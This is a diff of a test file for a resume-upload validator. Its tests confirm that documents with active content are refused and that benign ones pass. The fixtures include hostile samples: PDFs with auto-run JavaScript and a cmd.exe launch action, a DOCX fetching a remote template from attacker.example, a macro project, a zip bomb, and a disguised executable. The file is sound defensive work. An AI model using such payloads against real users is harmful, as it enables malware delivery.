@@ -1,8 +1,17 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { docBytes, docxBytes, makeZip, pdfBytes, zipFile } from "../../tests/support/files";
+import {
+  docBytes,
+  docxBytes,
+  fakeDocBytes,
+  makeZip,
+  objectStream,
+  pdfBytes,
+  pdfWith,
+  zipFile,
+} from "../../tests/support/files";
 import { testEnv } from "../../tests/support/intake";
 import { createIntake, type Intake } from "./index";
-import { checkResume, zipBoundProblem } from "./upload";
+import { checkResume, checkZip } from "./upload";
 
 const application = (resume: File, locale = "en") => {
   const form = new FormData();
@@ -51,14 +60,83 @@ describe("resumes are checked by their bytes", () => {
       { name: "[Content_Types].xml", data: Buffer.from("<Types/>") },
       { name: "word/document.xml", data: Buffer.alloc(1024), declaredSize: 1024 ** 3 },
     ]);
-    expect(await zipBoundProblem(huge)).toBe("zip-inflates-too-large");
+    await expect(checkZip(huge)).rejects.toThrow("zip-inflates-too-large");
     const lying = docxBytes([
       { name: "word/media/image1.bin", data: Buffer.alloc(64 * 1024 * 1024), declaredSize: 1000 },
     ]);
     expect(lying.length).toBeLessThan(1024 * 1024);
-    expect(await zipBoundProblem(Buffer.from(lying))).toMatch(/zip-/);
+    await expect(checkZip(Buffer.from(lying))).rejects.toThrow(/zip-/);
     expect((await checkResume(new File([lying], "cv.docx"))).ok).toBe(false);
-    expect(await zipBoundProblem(Buffer.from(docxBytes()))).toBeUndefined();
+    await expect(checkZip(Buffer.from(docxBytes()))).resolves.toBeUndefined();
+  });
+
+  it("refuses a compound file that only names a WordDocument stream", async () => {
+    expect(await checkResume(new File([fakeDocBytes()], "cv.doc"))).toMatchObject({
+      ok: false,
+      problem: "resumeContent",
+    });
+  });
+});
+
+describe("resumes that run something when opened are refused", () => {
+  const rels = (relationships: string) =>
+    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;
+  const template =
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>';
+  const hyperlink =
+    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/luis" TargetMode="External"/>';
+
+  it.each([
+    [
+      "a PDF that opens with JavaScript",
+      pdfWith("<</OpenAction 3 0 R>>", "<</S/JavaScript/JS(app.alert(1))>>"),
+      "cv.pdf",
+    ],
+    ["a PDF with a launch action", pdfWith("<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), "cv.pdf"],
+    ["a PDF that spells JavaScript with escapes", pdfWith("<</OpenAction<</S/J#61vaScript/J#53(x)>>>>"), "cv.pdf"],
+    [
+      "a PDF with JavaScript inside a compressed object stream",
+      pdfWith(objectStream("3 0 <</S/JavaScript/JS(app.alert(1))>>")),
+      "cv.pdf",
+    ],
+    [
+      "a DOCX with an external template",
+      docxBytes([{ name: "word/_rels/settings.xml.rels", data: Buffer.from(rels(template)) }]),
+      "cv.docx",
+    ],
+    [
+      "a DOCX with a macro project",
+      docxBytes([{ name: "word/vbaProject.bin", data: Buffer.from("macro") }]),
+      "cv.docx",
+    ],
+    ["a Word 97-2003 document with macros", docBytes(["Macros"]), "cv.doc"],
+  ])("refuses %s", async (_label, bytes, name) => {
+    expect(await checkResume(new File([bytes], name))).toMatchObject({ ok: false, problem: "resumeActive" });
+  });
+
+  it("accepts links to web pages and text that mentions JavaScript", async () => {
+    const linked = docxBytes([{ name: "word/_rels/document.xml.rels", data: Buffer.from(rels(hyperlink)) }]);
+    expect(await checkResume(new File([linked], "cv.docx"))).toMatchObject({ ok: true });
+    const text = pdfWith(
+      "<</Length 40>>\nstream\nBT (Skills: HTML/JavaScript/CSS) Tj ET\nendstream",
+      "(/JS in a string)",
+    );
+    expect(await checkResume(new File([text], "cv.pdf"))).toMatchObject({ ok: true });
+  });
+
+  it("reads a PDF of adversarial bytes in one pass", async () => {
+    const unclosed = Buffer.concat([
+      pdfBytes(),
+      Buffer.from("(".repeat(2_000_000)),
+      Buffer.from("/".repeat(1_000_000)),
+    ]);
+    const started = performance.now();
+    await checkResume(new File([unclosed], "cv.pdf"));
+    expect(performance.now() - started).toBeLessThan(1000);
+    const tags = docxBytes([{ name: "word/_rels/a.rels", data: Buffer.from("<Relationship ".repeat(70_000)) }]);
+    const zipStarted = performance.now();
+    expect(await checkResume(new File([tags], "cv.docx"))).toMatchObject({ ok: true });
+    expect(performance.now() - zipStarted).toBeLessThan(1000);
   });
 });
 
@@ -68,6 +146,15 @@ describe("POST /api/careers with a resume", () => {
     intake = await createIntake(testEnv({ UPLOAD_STORAGE_MB: "1" }), { pollMs: 60_000 });
   });
   afterAll(() => intake.close());
+
+  it("refuses active content with a message in the visitor's language", async () => {
+    const script = new File([pdfWith("<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")], "cv.pdf");
+    const response = await intake.app.request("/api/careers", { method: "POST", body: application(script, "es") });
+    expect(response.status).toBe(400);
+    expect(((await response.json()) as { errors: Record<string, string> }).errors.resume).toBe(
+      "Este archivo contiene macros, scripts o enlaces a contenido externo. Por favor, guárdelo como un PDF o DOCX sencillo y adjúntelo de nuevo",
+    );
+  });
 
   it("refuses an executable named cv.pdf in the visitor's language", async () => {
     const exe = new File([Buffer.from("MZ\x90\x00 program")], "cv.pdf", { type: "application/pdf" });
